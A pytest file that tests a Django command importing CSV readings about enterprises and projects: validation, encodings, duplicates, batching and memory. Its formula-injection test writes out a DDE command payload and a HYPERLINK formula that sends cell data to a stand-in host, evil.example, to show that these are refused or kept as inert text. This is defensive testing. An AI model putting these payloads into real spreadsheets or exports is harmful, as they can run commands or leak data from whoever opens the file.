"""`manage.py import_indicators`: streamed, all or nothing, every refused row named by its line."""

from __future__ import annotations

import time
import tracemalloc
from collections.abc import Iterable
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from alerts.models import Reading, RiskSubject
from alerts.services.indicator_import import MAX_CELL, MAX_LISTED, readings_import
from incidents.domain.identifiers import credit_code_check_char
from incidents.models import District, Enterprise, Project

HEADER = "source,id,credit_code,project,indicator,period,value"


def code(n: int) -> str:
    """A valid unified social credit code, distinct for each `n`."""
    first = f"91330503MA{n:07d}"
    return first + credit_code_check_char(first)


def row(
    ext: str,
    *,
    n: int | None = 1,
    project: str = "",
    source: str = "power",
    indicator: str = "electricity_kwh",
    period: str = "2025-03",
    value: str = "1200",
    extra: Iterable[str] = (),
) -> str:
    credit = code(n) if n is not None else ""
    return ",".join([source, ext, credit, project, indicator, period, value, *extra])


def write(
    tmp_path: Path, rows: Iterable[str], *, header: str = HEADER, name: str = "r.csv"
) -> Path:
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def run(path: Path, *args: str) -> tuple[str, str]:
    """Import the file; (stdout, stderr)."""
    out, err = StringIO(), StringIO()
    call_command("import_indicators", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def refused(path: Path, *args: str) -> tuple[str, str]:
    """Import the file, which must be refused; (the error, stderr)."""
    err = StringIO()
    with pytest.raises(CommandError) as caught:
        call_command("import_indicators", str(path), *args, stdout=StringIO(), stderr=err)
    return str(caught.value), err.getvalue()


def nothing_stored() -> bool:
    return (
        not Reading.objects.exists()
        and not RiskSubject.objects.exists()
        and not Enterprise.objects.filter(registered_by_reading=True).exists()
    )


def reading(source: str, ext: str) -> Reading:
    return Reading.objects.select_related("subject__enterprise", "subject__project").get(
        source=source, external_id=ext
    )


# --- a good file ----------------------------------------------------------------------------


def test_a_good_file_stores_every_row_and_registers_unknown_enterprises(
    district: District, tmp_path: Path
) -> None:
    known = Enterprise.objects.create(district=district, credit_code=code(7), name="宏达劳务")
    project = Project.objects.create(
        district=district, name="练市大桥二期", code="JS-2025-001", type="transport"
    )
    assert not Enterprise.objects.filter(credit_code__in=[code(1), code(2)]).exists()
    path = write(
        tmp_path,
        [
            row("e1", n=1, value='"1,200.5"'),
            row("e2", n=1, period="2025-04", value="800"),
            row("w1", n=2, source="water", indicator="water_m3", period="2025-04-15", value="35"),
            row(
                "t1", n=2, source="tax", indicator="tax_credit_rating", period="2025-01", value="d"
            ),
            row("k1", n=7, indicator="registered_workers", value="42"),
            row("p1", n=None, project="JS-2025-001", indicator="system_real_name", value="否"),
            row("p2", n=None, project="JS-2025-001", indicator="fund_disbursed", value="1e6"),
        ],
    )
    out, err = run(path)

    assert Reading.objects.count() == 7
    e1 = reading("power", "e1")
    assert (e1.indicator, e1.number, e1.text) == ("electricity_kwh", Decimal("1200.50"), "")
    assert (e1.period_start, e1.period_end) == (date(2025, 3, 1), date(2025, 3, 31))
    w1 = reading("water", "w1")
    assert (w1.period_start, w1.period_end) == (date(2025, 4, 15), date(2025, 4, 15))
    assert w1.number == Decimal("35.00")
    t1 = reading("tax", "t1")
    assert (t1.number, t1.text) == (None, "D")
    p1 = reading("power", "p1")
    assert p1.subject.project == project
    assert p1.number == Decimal(0)
    assert reading("power", "p2").number == Decimal("1000000.00")
    assert reading("power", "k1").subject.enterprise == known

    registered = Enterprise.objects.filter(credit_code__in=[code(1), code(2)])
    assert [(e.name, e.registered_by_reading) for e in registered] == [("", True), ("", True)]
    known.refresh_from_db()
    assert (known.name, known.registered_by_reading) == ("宏达劳务", False)
    assert e1.subject.enterprise is not None
    assert e1.subject.enterprise.credit_code == code(1)
    assert RiskSubject.objects.count() == 4  # two new enterprises, the known one, the project

    assert "7 rows: 7 stored, 0 already held, 0 refused" in out
    assert "4 enterprises and projects, 2 of them new" in out
    assert "rows" in err
    assert "7/7 rows" in err  # the bar's last figure


def test_the_progress_bar_advances_batch_by_batch(district: District, tmp_path: Path) -> None:
    path = write(tmp_path, [row(f"r{i}", n=i % 3 + 1) for i in range(5)])
    _out, err = run(path, "--batch", "2")
    bars = [line for line in err.splitlines() if "rows" in line]
    assert [b.split("] ")[1].split(" rows")[0].split()[-1] for b in bars] == [
        "2/5",
        "4/5",
        "5/5",
    ]
    assert "100%" in bars[-1]
    assert Reading.objects.count() == 5


def test_a_project_the_hub_does_not_know_is_refused(district: District, tmp_path: Path) -> None:
    path = write(tmp_path, [row("p1", n=None, project="NOPE-1", indicator="fund_disbursed")])
    error, err = refused(path)
    assert "line 2: subject.project: no project has this code" in err
    assert "1 refused" in error
    assert not Reading.objects.exists()


def test_a_zero_batch_is_refused(district: District, tmp_path: Path) -> None:
    error, _err = refused(write(tmp_path, [row("e1")]), "--batch", "0")
    assert "--batch" in error


# --- reported_at ----------------------------------------------------------------------------


def test_reported_at_with_a_zone_is_stored_and_a_naive_time_is_refused(
    district: District, tmp_path: Path
) -> None:
    header = HEADER + ",reported_at"
    good = write(
        tmp_path,
        [
            row("a", extra=["2025-04-02T09:30:00+08:00"]),
            row("b", extra=["2025-04-02T01:30:00Z"]),
            row("c", extra=[""]),  # empty: when it arrived
        ],
        header=header,
    )
    run(good)
    assert reading("power", "a").reported_at == datetime(2025, 4, 2, 1, 30, tzinfo=UTC)
    assert reading("power", "b").reported_at == datetime(2025, 4, 2, 1, 30, tzinfo=UTC)
    c = reading("power", "c")
    assert c.reported_at == c.received_at

    bad = write(
        tmp_path,
        [
            row("d", extra=["2025-04-02T09:30:00+08:00"]),
            row("e", extra=["2025-04-02T09:30:00"]),
            row("f", extra=["yesterday"]),
        ],
        header=header,
        name="bad.csv",
    )
    _error, err = refused(bad)
    assert "line 3: reported_at: needs a time zone" in err
    assert "line 4: reported_at: is not an ISO 8601 time" in err
    assert Reading.objects.count() == 3


# --- refused rows ---------------------------------------------------------------------------

BAD_ROWS = [
    (row("b1", n=None), "subject: give either credit_code or project"),
    (row("b2", value="-5"), "value: must not be negative"),
    (row("b3", period="2099-01"), "period: has not begun yet"),
    (row("b4", indicator="steam"), "indicator: is not a known indicator"),
    (row("b5", source="Power!"), "source: must be 1 to 40 lower-case"),
    ("power,b6,91330503MA0000001X,,electricity_kwh,2025-03,1", "subject.credit_code: is not a"),
    (row("b7", indicator="registered_workers", value="4.5"), "value: must be a whole number"),
]


def _file_with_bad_rows_late(tmp_path: Path) -> Path:
    """Eight good rows, then the bad ones, then two more good: with --batch 2 the good rows
    before are stored in earlier batches."""
    good = [row(f"g{i}", n=i + 1, period=f"2025-0{i % 9 + 1}") for i in range(8)]
    bad = [text for text, _message in BAD_ROWS]
    return write(tmp_path, [*good, *bad, row("g8", n=20), row("g9", n=21)])


def test_a_file_with_bad_rows_stores_nothing_and_names_each_line(
    district: District, tmp_path: Path
) -> None:
    path = _file_with_bad_rows_late(tmp_path)
    error, err = refused(path, "--batch", "2")
    assert (
        error == f"17 rows: 10 stored, 0 already held, {len(BAD_ROWS)} refused: nothing imported."
    )
    for line, (_text, message) in enumerate(BAD_ROWS, start=10):
        assert f"line {line}: {message}" in err
    assert "2/17 rows" in err  # batches were written before the bad rows were met
    assert nothing_stored()


def test_with_skip_bad_the_good_rows_are_stored_and_the_bad_listed(
    district: District, tmp_path: Path
) -> None:
    path = _file_with_bad_rows_late(tmp_path)
    out, err = run(path, "--batch", "2", "--skip-bad")
    assert f"17 rows: 10 stored, 0 already held, {len(BAD_ROWS)} refused" in out
    for line, (_text, message) in enumerate(BAD_ROWS, start=10):
        assert f"line {line}: {message}" in err
    assert set(Reading.objects.values_list("external_id", flat=True)) == {
        f"g{i}" for i in range(10)
    }


def test_more_than_200_refused_rows_are_counted_after_the_first_200(
    district: District, tmp_path: Path
) -> None:
    extra = 37
    path = write(tmp_path, [row(f"b{i}", value="lots") for i in range(MAX_LISTED + extra)])
    _error, err = refused(path)
    listed = [line for line in err.splitlines() if line.startswith("line ")]
    assert len(listed) == MAX_LISTED
    assert listed[0] == "line 2: value: must be a number"
    assert listed[-1] == f"line {MAX_LISTED + 1}: value: must be a number"
    assert f"… and {extra} more refused rows (first {MAX_LISTED} listed)." in err
    assert nothing_stored()


# --- duplicates -----------------------------------------------------------------------------


def test_the_same_file_twice_stores_nothing_new(district: District, tmp_path: Path) -> None:
    path = write(tmp_path, [row("e1", n=1), row("e2", n=2), row("e3", n=1, period="2025-04")])
    run(path)
    first = list(Reading.objects.order_by("pk").values_list("pk", "received_at"))
    out, _err = run(path)
    assert "3 rows: 0 stored, 3 already held, 0 refused" in out
    assert list(Reading.objects.order_by("pk").values_list("pk", "received_at")) == first
    assert Enterprise.objects.filter(registered_by_reading=True).count() == 2


def test_a_reading_held_with_a_different_value_is_refused(
    district: District, tmp_path: Path
) -> None:
    run(write(tmp_path, [row("e1", value="100")]))
    again = write(tmp_path, [row("e1", value="100.01"), row("e2")], name="again.csv")
    _error, err = refused(again)
    assert "line 2: id: already received from this source with different content" in err
    assert list(Reading.objects.values_list("external_id", "number")) == [("e1", Decimal("100.00"))]
    # the same id from another source is another reading
    run(write(tmp_path, [row("e1", source="meter", value="5")], name="other.csv"))
    assert Reading.objects.count() == 2


def test_a_period_changed_under_a_held_id_is_refused(district: District, tmp_path: Path) -> None:
    run(write(tmp_path, [row("e1", period="2025-03")]))
    _error, err = refused(write(tmp_path, [row("e1", period="2025-03-01")], name="b.csv"))
    assert "line 2: id: already received" in err


@pytest.mark.parametrize(
    "changed", [{"n": 2}, {"indicator": "water_m3"}], ids=["other-enterprise", "other-indicator"]
)
def test_a_held_id_about_another_subject_or_indicator_is_refused(
    district: District, tmp_path: Path, changed: dict[str, Any]
) -> None:
    run(write(tmp_path, [row("e1", n=1, value="100")]))
    again = write(tmp_path, [row("e1", **{"value": "100", **changed})], name="again.csv")
    _error, err = refused(again)
    assert "line 2: id: already received from this source with different content" in err


def test_duplicates_within_one_file(district: District, tmp_path: Path) -> None:
    same = write(tmp_path, [row("e1", value="10"), row("e2"), row("e1", value="10.00")])
    out, _err = run(same)
    assert "3 rows: 2 stored, 1 already held, 0 refused" in out
    assert Reading.objects.filter(external_id="e1").count() == 1

    different = write(
        tmp_path, [row("x1", value="10"), row("x2"), row("x1", value="11")], name="d.csv"
    )
    _error, err = refused(different)
    assert "line 4: id: already received from this source with different content" in err
    assert not Reading.objects.filter(external_id__startswith="x").exists()


def test_duplicates_within_one_file_across_batches(district: District, tmp_path: Path) -> None:
    path = write(tmp_path, [row("e1"), row("e2"), row("e3"), row("e1"), row("e2", value="1")])
    out, err = run(path, "--batch", "2", "--skip-bad")
    assert "5 rows: 3 stored, 1 already held, 1 refused" in out
    assert "line 6: id: already received" in err
    assert reading("power", "e2").number == Decimal("1200.00")


def test_a_refused_row_registers_no_enterprise(district: District, tmp_path: Path) -> None:
    run(write(tmp_path, [row("e1", n=1, value="100")]))
    out, _err = run(write(tmp_path, [row("e1", n=2, value="200")], name="again.csv"), "--skip-bad")
    assert "1 refused" in out
    assert not Enterprise.objects.filter(credit_code=code(2)).exists()


# --- file-level refusals --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("source,id,credit_code,project,indicator,period", "missing columns: value"),
        ("source,credit_code,project,indicator,period,value", "missing columns: id"),
        (HEADER + ",unit", "unknown columns: unit"),
        ("Source,id,credit_code,project,indicator,period,value", "missing columns: source"),
    ],
)
def test_a_wrong_header_is_refused(
    district: District, tmp_path: Path, header: str, message: str
) -> None:
    path = write(tmp_path, [row("e1")], header=header)
    error, _err = refused(path, "--skip-bad")
    assert error.startswith("The header is wrong (")
    assert message in error
    assert nothing_stored()


def test_a_file_level_refusal_reads_as_one_sentence(district: District, tmp_path: Path) -> None:
    error, _err = refused(write(tmp_path, [row("e1")], header=HEADER + ",unit"))
    assert ".:" not in error


def test_a_header_with_spaces_around_names_is_accepted(district: District, tmp_path: Path) -> None:
    header = " source , id,credit_code ,project,indicator,period,value"
    run(write(tmp_path, [row("e1")], header=header))
    assert Reading.objects.count() == 1


def test_a_header_naming_a_column_twice_is_refused(district: District, tmp_path: Path) -> None:
    path = write(tmp_path, [row("e1", value="100", extra=["999"])], header=HEADER + ",value")
    error, _err = refused(path)
    assert "value" in error
    assert nothing_stored()


def test_a_gbk_file_is_read_as_gbk(district: District, tmp_path: Path) -> None:
    path = tmp_path / "gbk.csv"
    path.write_bytes(
        (HEADER + ",reported_at\n").encode()
        + row("e1", extra=[""]).encode()
        + b"\n"
        + row("甲-中文", extra=[""]).encode("gbk")
        + b"\n"
    )
    run(path)
    assert reading("power", "甲-中文").number == Decimal("1200")


def test_utf8_chinese_then_gbk_late_in_a_big_file_is_refused_whole(
    district: District, tmp_path: Path
) -> None:
    path = tmp_path / "mixed.csv"
    with path.open("wb") as f:
        f.write((HEADER + "\n").encode())
        f.write((row("电表-1", n=1) + "\n").encode())
        for i in range(3000):
            f.write((row(f"e{i}", n=i % 50 + 1) + "\n").encode())
        f.write((row("中文", n=1) + "\n").encode("gbk"))
    error, _err = refused(path, "--skip-bad", "--batch", "500")
    assert "mixes encodings" in error
    assert "3003" in error
    assert nothing_stored()


def test_a_utf8_file_with_chinese_in_the_id_is_accepted(district: District, tmp_path: Path) -> None:
    run(write(tmp_path, [row("电表-中文-1")]))
    assert Reading.objects.get().external_id == "电表-中文-1"


def test_a_utf8_bom_file_is_accepted(district: District, tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(("\n".join([HEADER, row("e1"), row("e2")]) + "\r\n").encode("utf-8-sig"))
    out, _err = run(path)
    assert "2 rows: 2 stored" in out
    assert Reading.objects.count() == 2


def test_crlf_line_ends_and_quoted_cells_are_accepted(district: District, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(
        (HEADER + "\r\n" + f'power,"e,1",{code(1)},,electricity_kwh,2025-03,"1,200"\r\n').encode()
    )
    run(path)
    assert (Reading.objects.get().external_id, Reading.objects.get().number) == (
        "e,1",
        Decimal("1200.00"),
    )


@pytest.mark.parametrize(
    "bad", [row("e2") + ",surplus", row("e2").rsplit(",", 1)[0]], ids=["more", "fewer"]
)
def test_a_row_with_another_number_of_cells_is_refused(
    district: District, tmp_path: Path, bad: str
) -> None:
    path = write(tmp_path, [row("e1"), bad, row("e3")])
    _error, err = refused(path)
    assert "line 3: row: has a different number of cells than the header" in err
    assert nothing_stored()
    _out, err = run(path, "--skip-bad")
    assert "line 3: row: has a different number of cells" in err
    assert set(Reading.objects.values_list("external_id", flat=True)) == {"e1", "e3"}


def test_a_cell_longer_than_1000_characters_is_refused(district: District, tmp_path: Path) -> None:
    path = write(tmp_path, [row("e1"), row("x" * (MAX_CELL + 1)), row("e3")])
    _error, err = refused(path)
    assert f"line 3: id: is longer than {MAX_CELL} characters" in err
    assert nothing_stored()


def test_a_cell_past_the_csv_field_limit_refuses_the_file(
    district: District, tmp_path: Path
) -> None:
    path = write(tmp_path, [row("e1"), row("e2", value='"' + "9" * 200_000 + '"')])
    error, _err = refused(path, "--skip-bad")
    assert "not valid CSV" in error
    assert nothing_stored()


def test_an_id_longer_than_80_characters_is_refused(district: District, tmp_path: Path) -> None:
    _error, err = refused(write(tmp_path, [row("x" * 81)]))
    assert "line 2: id: must be 1 to 80 characters" in err


def test_a_missing_file_is_refused(district: District, tmp_path: Path) -> None:
    error, _err = refused(tmp_path / "nowhere.csv")
    assert error.startswith("Cannot read ")
    assert "nowhere.csv" in error


def test_a_header_only_file_imports_zero_rows(district: District, tmp_path: Path) -> None:
    out, _err = run(write(tmp_path, []))
    assert "0 rows: 0 stored, 0 already held, 0 refused" in out
    assert nothing_stored()


def test_a_zero_byte_file_is_refused_as_having_no_header(
    district: District, tmp_path: Path
) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")
    error, _err = refused(path)
    assert error.startswith("The file is empty: it has no header line")
    assert nothing_stored()


# --- formula injection ----------------------------------------------------------------------


def test_formula_looking_cells_are_refused_or_stored_as_inert_text(
    district: District, tmp_path: Path
) -> None:
    rows = {
        2: (row("f1", value="=1+1"), "line 2: value: must be a number"),
        3: (row("f2", source="@cmd"), "line 3: source: must be 1 to 40"),
        4: (row("f3", n=None, project="=cmd|' /C calc'!A0"), "line 4: subject.project: is not"),
        5: (row("f4", indicator="+electricity_kwh"), "line 5: indicator: is not a known"),
        6: (row("f5", value="-2+3"), "line 6: value: must be a number"),
        7: (row("f6", period="=TODAY()"), "line 7: period: must be a month"),
    }
    formula_id = '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
    path = write(tmp_path, [*(text for text, _m in rows.values()), row(formula_id)])
    _out, err = run(path, "--skip-bad")
    for _text, message in rows.values():
        assert message in err
    # only the id may hold any text: it is kept verbatim, as data
    stored = Reading.objects.get()
    assert stored.external_id == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert stored.number == Decimal("1200.00")


# --- the district ---------------------------------------------------------------------------


def test_an_unknown_district_is_refused(district: District, tmp_path: Path) -> None:
    error, _err = refused(write(tmp_path, [row("e1")]), "--district", "nowhere")
    assert "--district" in error
    assert nothing_stored()


def test_the_district_may_be_named(district: District, tmp_path: Path) -> None:
    run(write(tmp_path, [row("e1")]), "--district", district.code)
    assert Reading.objects.get().district == district


def test_with_two_districts_one_must_be_named(district: District, tmp_path: Path) -> None:
    District.objects.create(code="other", case_prefix="OT", name_zh="别区", name_en="Other")
    error, _err = refused(write(tmp_path, [row("e1")]))
    assert "--district" in error
    run(write(tmp_path, [row("e1")]), "--district", district.code)
    assert Reading.objects.get().district == district


# --- memory ---------------------------------------------------------------------------------

INDICATORS = [
    ("power", "electricity_kwh", "{:.2f}"),
    ("water", "water_m3", "{:.1f}"),
    ("gas", "gas_m3", "{:.0f}"),
    ("hr", "registered_workers", "{:.0f}"),
    ("tax", "tax_credit_rating", "ABMCD"),
]
MONTHS = [f"{y}-{m:02d}" for y in (2024, 2025) for m in range(1, 13)]


def _big_file(path: Path, rows: int, *, first_enterprise: int, enterprises: int = 500) -> int:
    """Write `rows` readings about `enterprises` enterprises, a line at a time; its size."""
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(HEADER + "\r\n")
        codes = [code(first_enterprise + k) for k in range(enterprises)]
        for i in range(rows):
            source, indicator, shape = INDICATORS[i % len(INDICATORS)]
            credit = codes[(i // len(INDICATORS)) % enterprises]
            month = MONTHS[(i // (len(INDICATORS) * enterprises)) % len(MONTHS)]
            number = (i * 7919) % 100_000 / 3
            value = shape[i % 5] if shape == "ABMCD" else shape.format(number)
            f.write(f"{source},{first_enterprise}-{i},{credit},,{indicator},{month},{value}\r\n")
    return path.stat().st_size


def _import_traced(district: District, path: Path) -> tuple[int, float, float, int]:
    """Import the file under tracemalloc; (rows stored, seconds, CPU seconds, peak bytes)."""
    started, cpu = time.perf_counter(), time.process_time()
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        with path.open(encoding="utf-8", newline="") as lines:
            report = readings_import(district_id=district.pk, lines=lines)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.refused == 0, report.errors[:5]
    return report.accepted, time.perf_counter() - started, time.process_time() - cpu, peak


@pytest.mark.slow
def test_memory_stays_flat_as_the_file_grows(district: District, tmp_path: Path) -> None:
    _big_file(tmp_path / "warm.csv", 200, first_enterprise=2001, enterprises=20)
    small_size = _big_file(tmp_path / "small.csv", 20_000, first_enterprise=1)
    big_size = _big_file(tmp_path / "big.csv", 100_000, first_enterprise=1001)
    _import_traced(district, tmp_path / "warm.csv")  # first-use costs (imports, caches)

    small_rows, small_time, small_cpu, small_peak = _import_traced(district, tmp_path / "small.csv")
    big_rows, big_time, big_cpu, big_peak = _import_traced(district, tmp_path / "big.csv")
    print(
        f"\n20k rows ({small_size / 1e6:.1f} MB): peak {small_peak / 1e6:.2f} MB, "
        f"{small_time:.1f} s ({small_cpu:.1f} s CPU)"
        f"\n100k rows ({big_size / 1e6:.1f} MB): peak {big_peak / 1e6:.2f} MB, "
        f"{big_time:.1f} s ({big_cpu:.1f} s CPU); peak ratio {big_peak / small_peak:.2f}"
    )

    assert small_rows == 20_000
    assert big_rows == 100_000
    assert Reading.objects.count() == 120_200
    assert Enterprise.objects.filter(registered_by_reading=True).count() == 1020
    # Streamed: five times the rows, about the same peak (loading the file whole: ~5×).
    assert big_peak < 1.5 * small_peak
    # The peak is a batch's worth: less than the file's bytes (its text alone, read whole as a
    # str, would be as much; as parsed rows, many times more).
    assert big_peak < big_size
